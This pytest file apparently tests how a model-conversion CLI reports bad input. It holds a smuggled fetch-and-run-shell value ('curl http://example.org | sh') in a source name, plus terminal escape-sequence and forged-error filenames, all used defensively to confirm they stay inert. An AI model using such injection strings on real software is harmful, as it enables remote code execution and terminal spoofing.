"""Bad input to every command: exit code, file, and a correct next step; never a traceback."""

import errno
import io
import json
import os
import shutil
import signal
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from bad_folders import copy_of_good
from hub_server import HubServer
from made_traces import random_experts, trace_of
from project_paths import ROOT
from support_hints import arguments_of, check_hint, hints_in

import converter.cli.options.early_checks
import formats.reading.verify
from converter.cli.main import COMMANDS
from converter.cli.show.failures import failure_of
from converter.cli.show.terminal import printable
from formats.errors import MoeConvertError
from loader.traces.trace import write_trace

Run = Callable[..., tuple[int, str, str]]
TEXT = ROOT / "examples" / "text" / "english.txt"


class Inputs:
    """Paths of everything that the tables name, good and bad."""

    def __init__(self, folder: Path, example: Path, unfinished: Path, good: Path) -> None:
        self.checkpoint, self.unfinished, self.good = example, unfinished, good
        self.missing = folder / "not there"
        self.empty_folder = folder / "empty folder"
        self.empty_folder.mkdir()
        self.file = folder / "a file"
        self.file.write_text("text")
        self.empty = folder / "empty.txt"
        self.empty.touch()
        self.latin = folder / "latin.txt"
        self.latin.write_bytes("größer".encode("latin-1") * 1000)
        self.short = folder / "short.txt"
        self.short.write_text("short")
        self.blank = folder / "blank.txt"
        self.blank.write_text("\n \n")
        self.text = TEXT
        self.out = folder / "out"
        self.below_file = self.file / "out"
        self.below_missing = self.missing / "out.svg"
        self.trace = folder / "trace.zst"
        write_trace(self.trace, trace_of(random_experts(1, 20, layers=3)))
        self.json = folder / "broken.json"
        self.json.write_text("{")


@pytest.fixture(scope="module")
def unfinished(tmp_path_factory: pytest.TempPathFactory, example_folder: Path) -> Path:
    """Return a folder with the first half of the layers converted."""
    from converter.convert import ConvertOptions, convert_checkpoint
    from converter.recipe.recipes import make_recipe

    folder = tmp_path_factory.mktemp("unfinished") / "out"
    convert_checkpoint(
        example_folder, folder, make_recipe("2bit", solver="hqq"), ConvertOptions(part=(1, 8))
    )
    return folder


@pytest.fixture
def inputs(
    tmp_path: Path, example_folder: Path, unfinished: Path, converted: Callable[[str], Path]
) -> Inputs:
    return Inputs(tmp_path, example_folder, unfinished, converted("2bit"))


CONVERTED_ONLY = {
    "inspect": "inspect {}",
    "verify": "verify {}",
    "repair": "repair {}",
    "rebuild": "repair {} --index",
    "upload": "upload {} me/model --license mit",
    "generate": "generate {} --prompt x",
    "chat": "chat {}",
    "serve": "serve {} --port 0",
}
ANY_MODEL = {
    "eval": "eval {} --text $text",
    "against": "eval $good --against {} --text $text",
    "trace": "trace {} --text $text -o $out",
    "plan": "plan {}",
}
FOLDERS = {
    "missing": (1, "not there", ""),
    "file": (1, "a file", ""),
    "empty_folder": (1, "empty folder", ""),
    "unfinished": (1, "unfinished conversion", "run the same convert command again"),
    "checkpoint": (1, "tiny-mixtral is not converted", "moe-convert convert"),
}
OTHERS = [
    # command line, exit code, words of the message, words of the next step
    ("convert $missing -o $out", 1, "not there", ""),
    ("convert $file -o $out", 1, "a file", ""),
    ("convert $empty_folder -o $out", 1, "empty folder", ""),
    ("convert $checkpoint -o $out --recipe $missing.json", 2, "not there.json", ""),
    ("convert $checkpoint -o $out --recipe $json", 2, "broken.json", ""),
    ("convert $checkpoint -o $out --calibrate $missing", 1, "not there", "--calibrate"),
    ("convert $checkpoint -o $out --calibrate $empty_folder", 1, "empty folder", "--calibrate"),
    ("convert $checkpoint -o $out --calibrate $empty", 1, "empty.txt is empty", ""),
    (
        "convert $checkpoint -o $out --calibrate $latin",
        1,
        "latin.txt: not UTF-8 at byte 2",
        "UTF-8",
    ),
    ("convert $checkpoint -o $out --calibrate $short", 1, "short.txt has", "longer text"),
    ("convert $checkpoint -o $out --license mit", 2, "--upload-repo", ""),
    (
        "convert $checkpoint -o $out --upload-repo model",
        1,
        "'model' is not the name of a repository",
        "owner/model",
    ),
    ("download model", 1, "'model' is not the name of a repository", "owner/model"),
    (
        "upload $good model --license mit",
        1,
        "'model' is not the name of a repository",
        "owner/model",
    ),
    ("upload $good me/model", 1, "licence", "--license"),
    ("repair $good --from $missing", 1, "not there", ""),
    ("repair $good --from $good", 1, "only read", ""),
    ("eval $good --text $missing", 2, "not there", ""),
    ("eval $good --text $empty_folder", 2, "empty folder", ""),
    ("eval $good --text $empty", 1, "empty.txt: the file is empty", "text"),
    ("eval $good --text $latin", 1, "latin.txt: not UTF-8 at byte 2", "UTF-8"),
    (
        "eval $good --text $short",
        1,
        "short.txt: shorter than a window of 256 tokens",
        "smaller window",
    ),
    ("eval $good --text $text --text $short", 1, "short.txt: shorter", "smaller window"),
    ("eval $good --text $text --device cuda:99", 1, "cuda:99", "cpu"),
    ("eval $good --text $text --against $checkpoint --ram-cache lots", 2, "lots", "6GiB"),
    ("eval $good --text $text --against $checkpoint --device tpu", 2, "tpu", ""),
    ("trace $good --text $missing -o $out", 2, "not there", ""),
    ("trace $good --text $empty -o $out", 1, "empty.txt: the file is empty", "text"),
    ("trace $good --text $text --text $short -o $out", 1, "short.txt: shorter", "smaller window"),
    ("trace $good --prompts $latin -o $out", 1, "latin.txt: not UTF-8", "UTF-8"),
    ("trace $good --prompts $blank -o $out", 1, "the file has no prompts", "one prompt per line"),
    ("trace $good --text $text -o $empty_folder", 1, "empty folder is a folder", "file"),
    ("trace $good --text $text -o $below_missing", 1, "not there is not there", "folder"),
    ("trace $good --text $text -o $below_file", 1, "a file is not a folder", "folder"),
    ("replay $missing", 1, "not there", ""),
    ("replay $empty_folder", 1, "empty folder", ""),
    ("replay $file", 3, "a file: not a trace", "moe-convert trace"),
    ("replay $trace --plot $below_missing", 1, "not there is not there", "folder"),
    ("plan $good --trace $file", 3, "a file: not a trace", "moe-convert trace"),
    ("plan $good --trace $trace", 1, "trace.zst: a trace of another model", "record a trace"),
    ("plan $good --ram lots", 2, "lots", "6GiB"),
    ("generate $good --prompt x --trace $file", 3, "a file: not a trace", "moe-convert trace"),
    ("generate $good --prompt x --ram-cache 1B", 4, "1 bytes", "at least"),
    ("generate $good --prompt x --device cuda:99", 1, "cuda:99", "cpu"),
    ("generate $good --prompt x --temperature 1e-300", 2, "temperature", ""),
    ("chat $good --template $missing", 2, "not there", ""),
    ("chat $good --template $empty", 1, "empty.txt: the file is empty", "text"),
    ("chat $good --template $latin", 1, "latin.txt: not UTF-8", "UTF-8"),
    ("chat $good --ram-cache 1B", 4, "1 bytes", "at least"),
    ("chat $good --top-k -1", 2, "--top-k", ""),
    ("serve $good --port 0 --template $missing", 2, "not there", ""),
    ("serve $good --port 0 --template $empty", 1, "empty.txt: the file is empty", "text"),
    ("serve $good --port 0 --ram-cache 1B", 4, "1 bytes", "at least"),
    ("serve $good --port 70000", 2, "--port", ""),
    ("serve $good --port 0 --max-context 100000", 2, "--max-context", ""),
    ("serve $good --port 0 --prefix-cache lots", 2, "--prefix-cache", ""),
    ("env --nonsense", 2, "--nonsense", ""),
    ("cache --remove no/model", 1, "has no model no/model", "moe-convert cache"),
]


def arguments(line: str, inputs: Inputs) -> list[str]:
    """The line's words, `$name` replaced by the path of that name."""

    def path(word: str) -> str:
        name, dot, suffix = word.removeprefix("$").partition(".")
        return f"{getattr(inputs, name)}{dot}{suffix}" if word.startswith("$") else word

    return [path(word) for word in line.split()]


def check_refusal(run: Run, line: list[str], code: int, message: str, hint: str) -> None:
    """Run a command that must fail with these texts; a next step that is a command must parse."""
    got, out, err = run(*line)
    assert got == code, err
    assert out == ""
    assert message in err
    assert "Traceback" not in err
    if code != 2:
        assert err.count("error: ") == 1
        hints = hints_in(err)
        assert len(hints) == 1, err
        assert hint in hints[0]
        check_hint(hints[0])


@pytest.mark.parametrize("kind", list(FOLDERS))
@pytest.mark.parametrize("command", list(CONVERTED_ONLY))
def test_folder_that_is_not_converted_is_named_and_is_no_damage(
    run_command: Run, inputs: Inputs, command: str, kind: str
) -> None:
    line = CONVERTED_ONLY[command].replace("{}", f"${kind}")
    check_refusal(run_command, arguments(line, inputs), *FOLDERS[kind])


@pytest.mark.parametrize("kind", ["missing", "file", "empty_folder", "unfinished"])
@pytest.mark.parametrize("command", list(ANY_MODEL))
def test_folder_without_a_model_is_named(
    run_command: Run, inputs: Inputs, command: str, kind: str
) -> None:
    code, message, hint = FOLDERS[kind]
    line = ANY_MODEL[command].replace("{}", f"${kind}")
    check_refusal(
        run_command,
        arguments(line, inputs),
        code,
        message,
        hint if command in ("eval", "trace") else "",
    )
    assert not inputs.out.exists()


@pytest.mark.parametrize(
    "command",
    [
        "inspect",
        "download",
        "generate --prompt x",
        "generate --prompt x --lazy",
        "chat",
        "serve --port 0",
    ],
)
def test_repository_that_is_not_converted_is_named(
    run_command: Run, hub: HubServer, command: str
) -> None:
    hub.add("me/plain", {"config.json": b"{}", "model.safetensors": b"weights"})
    name, *options = command.split()
    check_refusal(
        run_command,
        [name, "me/plain", *options],
        1,
        "is not converted",
        "moe-convert convert me/plain",
    )


@pytest.mark.parametrize(
    ("line", "code", "message", "hint"), OTHERS, ids=[line for line, *_ in OTHERS]
)
def test_bad_input_is_named_with_a_next_step(
    run_command: Run, inputs: Inputs, line: str, code: int, message: str, hint: str
) -> None:
    check_refusal(run_command, arguments(line, inputs), code, message, hint)
    assert not inputs.out.exists()


def test_every_command_is_in_the_tables() -> None:
    lines = [*CONVERTED_ONLY.values(), *ANY_MODEL.values(), *(line for line, *_ in OTHERS)]
    assert {line.split()[0] for line in lines} == set(COMMANDS)


def test_checkpoint_is_converted_by_the_command_that_the_refusal_names(
    run_command: Run, inputs: Inputs
) -> None:
    spaced = Path(shutil.copytree(inputs.checkpoint, inputs.missing.with_name("it's a model")))
    _, _, err = run_command("inspect", spaced)
    (hint,) = hints_in(err)
    assert run_command(*arguments_of(hint), "--dry-run")[0] == 0


@pytest.mark.parametrize(
    ("line", "module", "hint"),
    [
        ("replay $trace --plot $out.svg", "matplotlib", "pip install 'moe-convert[plots]'"),
        ("eval $good --tasks arc_easy", "lm_eval", "pip install 'moe-convert[eval]'"),
    ],
)
def test_missing_extra_is_named_before_the_work(
    run_command: Run,
    inputs: Inputs,
    monkeypatch: pytest.MonkeyPatch,
    line: str,
    module: str,
    hint: str,
) -> None:
    monkeypatch.setattr(converter.cli.options.early_checks, "find_spec", lambda name: None)
    check_refusal(run_command, arguments(line, inputs), 1, module, hint)


def test_prompt_that_is_not_utf8_is_refused(
    run_command: Run, inputs: Inputs, monkeypatch: pytest.MonkeyPatch
) -> None:
    check_refusal(
        run_command,
        ["generate", str(inputs.good), "--prompt", "\udcff"],
        1,
        "--prompt is not UTF-8",
        "UTF-8",
    )
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(b"\xff"), encoding="utf-8"))
    check_refusal(
        run_command,
        ["generate", str(inputs.good), "--prompt", "-"],
        1,
        "stdin is not UTF-8",
        "UTF-8",
    )


@pytest.mark.parametrize(
    "line", ["generate {} --prompt <beyond>", "eval {} --text $", "trace {} --text $ -o $.zst"]
)
def test_token_without_an_embedding_is_refused(
    run_command: Run, converted_copy: Path, tmp_path: Path, line: str
) -> None:
    from transformers import AutoTokenizer

    tokenizer = AutoTokenizer.from_pretrained(converted_copy)
    tokenizer.add_tokens(["<beyond>"])
    tokenizer.save_pretrained(converted_copy)
    text = tmp_path / "text.txt"
    text.write_text("<beyond>" * 300)
    words = [
        word.replace("{}", str(converted_copy)).replace("$", str(text)) for word in line.split()
    ]
    check_refusal(run_command, words, 3, "its sha256 is", "moe-convert repair")
    check_refusal(run_command, [*words, "--check", "none"], 1, "embeddings", "tokenizer")


def test_source_name_from_an_index_never_becomes_a_shell_command(
    run_command: Run, tmp_path: Path
) -> None:
    folder = copy_of_good(tmp_path)
    index = json.loads((folder / "moe_index.json").read_text())
    index["source"] |= {"name": "x/y; curl http://example.org | sh #", "revision": "0" * 40}
    (folder / "moe_index.json").write_text(json.dumps(index))
    os.truncate(folder / "trunk.safetensors", 100)
    code, out, _ = run_command("verify", folder)
    assert code == 3
    assert "curl" not in out
    for hint in hints_in(out):
        check_hint(hint)


def test_damage_is_mended_by_the_command_that_verify_names(
    run_command: Run, converted_copy: Path, example_folder: Path
) -> None:
    spaced = converted_copy.rename(converted_copy.with_name("a model's copy"))
    os.truncate(spaced / "experts" / "layer-001.safetensors", 5000)
    _, out, _ = run_command("verify", spaced)
    (hint,) = hints_in(out)
    assert run_command(*arguments_of(hint.replace("SOURCE", str(example_folder))))[0] == 0
    assert run_command("verify", spaced, "--read-data")[0] == 0


ERRORS = [
    (
        OSError(errno.ENOSPC, "No space left on device", "/a/b.partial"),
        4,
        "no space left in /a",
        "run the same",
    ),
    (OSError(errno.EDQUOT, "Disk quota exceeded", "/a/b"), 4, "quota", "free space"),
    (
        OSError(errno.EIO, "Input/output error", "/a/b"),
        1,
        "/a/b: cannot be used: Input/output error",
        "check the disk",
    ),
    (OSError(errno.ESTALE, "Stale file handle", "/a/b"), 1, "/a/b", "mount"),
    (
        PermissionError(errno.EACCES, "Permission denied", "/a/b"),
        1,
        "/a/b: cannot be used: Permission",
        "permissions",
    ),
    (OSError(errno.EROFS, "Read-only file system", "/a/b"), 1, "/a/b", "can be written"),
    (IsADirectoryError(errno.EISDIR, "Is a directory", "/a/b"), 1, "/a/b", "name a file"),
    (
        FileNotFoundError(errno.ENOENT, "No such file or directory", "/a/b"),
        1,
        "/a/b",
        "check the name",
    ),
    (OSError(errno.EMFILE, "Too many open files", "/a/b"), 1, "/a/b", "ulimit"),
    (MemoryError(), 4, "out of memory", "--ram-cache"),
    (
        torch.OutOfMemoryError("CUDA out of memory. Tried\nmore"),
        4,
        "out of memory: CUDA out of memory. Tried",
        "",
    ),
    (
        RuntimeError("[enforce] DefaultCPUAllocator: can't allocate memory: 9 bytes"),
        4,
        "can't allocate",
        "",
    ),
    (
        RuntimeError("boom\nin two lines"),
        1,
        "unexpected RuntimeError: boom in two lines",
        "moe-convert env",
    ),
    (UnicodeDecodeError("utf-8", b"\xff", 0, 1, "no"), 1, "unexpected UnicodeDecodeError", "-v"),
    (BrokenPipeError(errno.EPIPE, "Broken pipe"), 1, "connection", "run the same"),
    (
        MoeConvertError("bad \x1b]0;name\x07 \u202e", "do\x9b"),
        1,
        "error: bad \\x1b]0;name\\x07 \\u202e\n",
        "do\\x9b",
    ),
]


@pytest.mark.parametrize(("error", "code", "message", "hint"), ERRORS, ids=lambda x: str(x)[:30])
def test_any_exception_is_one_message_with_a_next_step(
    run_command: Run,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    error: Exception,
    code: int,
    message: str,
    hint: str,
) -> None:
    monkeypatch.setattr(formats.reading.verify, "verify_folder", raising(error))
    got, out, err = run_command("verify", tmp_path)
    assert (got, out) == (code, "")
    assert message in err
    assert hint in hints_in(err)[0]
    assert err.count("\n") == 2


def test_traceback_is_shown_with_verbose(
    run_command: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(formats.reading.verify, "verify_folder", raising(RuntimeError("boom")))
    code, _, err = run_command("verify", tmp_path, "-v")
    assert code == 1
    assert "Traceback (most recent call last)" in err
    assert err.splitlines()[-2] == "error: unexpected RuntimeError: boom"


def test_unexpected_errors_are_told_from_ours() -> None:
    assert not failure_of(RuntimeError("boom")).expected
    assert failure_of(MoeConvertError("ours")).expected


def raising(error: BaseException) -> Callable[..., Any]:
    def call(*_: object, **__: object) -> None:
        raise error

    return call


def test_names_from_files_cannot_control_the_terminal(run_command: Run, tmp_path: Path) -> None:
    folder = copy_of_good(tmp_path).rename(
        tmp_path / "evil\x1b]0;title\x07\x9b31m\u202etxt.exe\u2066"
    )
    (folder / "LICENSE").unlink()
    code, out, _ = run_command("verify", folder)
    assert code == 3
    assert "evil\\x1b]0;title\\x07\\x9b31m\\u202etxt.exe\\u2066" in out
    assert printable(out) == out
    index = json.loads((folder / "moe_index.json").read_text())
    index["source"]["name"] = "evil\x1b[2J"
    (folder / "moe_index.json").write_text(json.dumps(index))
    code, _, err = run_command("inspect", folder)
    assert code == 3
    assert "found 'evil\\x1b[2J'" in err
    assert printable(err) == err
    index["source"]["name"] = "tiny"
    index["x\x1b[2J\nerror: forged"] = 1
    (folder / "moe_index.json").write_text(json.dumps(index))
    code, _, err = run_command("inspect", folder)
    assert code == 3
    assert printable(err) == err
    assert err.count("error: ") == 2 and err.count("\nerror: ") == 0


def test_log_records_and_warnings_cannot_control_the_terminal(
    run_command: Run,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
) -> None:
    import logging
    import warnings

    def say(*_: object, **__: object) -> None:
        logging.getLogger("another.library").warning("tensor %s", "\x1b[2J")
        caplog.handler.stream.write(warnings.formatwarning("\x1b[3J", UserWarning, "file.py", 1))
        raise MoeConvertError("done")

    monkeypatch.setattr(formats.reading.verify, "verify_folder", say)
    run_command("verify", tmp_path)
    assert "tensor \\x1b[2J" in caplog.text
    assert "\\x1b[3J" in caplog.text


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT])
def test_signals_end_a_command_with_what_is_left_and_how_to_go_on(
    run_command: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, number: signal.Signals
) -> None:
    def interrupted(*_: object, **__: object) -> None:
        signal.raise_signal(number)

    # Where the suite runs in the background, SIGINT is ignored.
    before = signal.signal(signal.SIGINT, signal.default_int_handler)
    monkeypatch.setattr(formats.reading.verify, "verify_folder", interrupted)
    try:
        code, out, err = run_command("verify", tmp_path)
    finally:
        signal.signal(signal.SIGINT, before)
    assert (code, out) == (130, "")
    assert err == "interrupted: nothing was changed; the next run starts from the beginning\n"
    assert signal.getsignal(signal.SIGTERM) is signal.SIG_DFL


def test_an_interrupted_conversion_says_that_the_same_command_goes_on(
    run_command: Run, monkeypatch: pytest.MonkeyPatch, inputs: Inputs
) -> None:
    import converter.conversion.flow

    monkeypatch.setattr(converter.conversion.flow, "convert", raising(KeyboardInterrupt()))
    code, _, err = run_command("convert", inputs.checkpoint, "-o", inputs.out, "-q")
    assert (code, err) == (
        130,
        "interrupted: run the same command again: it resumes\n",
    )


@pytest.mark.parametrize(
    ("options", "words"),
    [([], "; to continue, pass the prompt"), (["--json"], "cannot be resumed\n")],
)
def test_an_interrupted_generation_says_how_much_there_is(
    run_command: Run,
    monkeypatch: pytest.MonkeyPatch,
    inputs: Inputs,
    options: list[str],
    words: str,
) -> None:
    from loader.serving.answers.text_stream import TextStream

    push, calls = TextStream.push, iter(range(1, 100))

    def push_three(self: TextStream, token: int) -> str:
        piece = push(self, token)
        if next(calls) == 3:
            raise KeyboardInterrupt
        return piece

    monkeypatch.setattr(TextStream, "push", push_three)
    code, out, err = run_command(
        "generate", inputs.good, "--prompt", "So Jonah arose", "--kernels", "torch", *options
    )
    assert code == 130
    assert bool(out.strip()) == (not options)
    assert "stopped after 3 new tokens" in err
    assert words in err


@pytest.mark.parametrize("target", ["closed pipe", "/dev/full"])
def test_output_that_cannot_be_written_ends_without_a_traceback(target: str) -> None:
    if target == "/dev/full":
        stdout = os.open(target, os.O_WRONLY)
    else:
        read, stdout = os.pipe()
        os.close(read)
    command = [
        sys.executable,
        "-m",
        "converter",
        "verify",
        str(ROOT / "tests" / "vectors" / "folder"),
    ]
    done = subprocess.run(
        command, stdout=stdout, stderr=subprocess.PIPE, text=True, cwd=ROOT, timeout=60
    )
    os.close(stdout)
    if target == "/dev/full":
        assert (done.returncode, done.stderr.splitlines()[0]) == (
            4,
            "error: No space left on device",
        )
    else:
        assert (done.returncode, done.stderr) == (1, "")
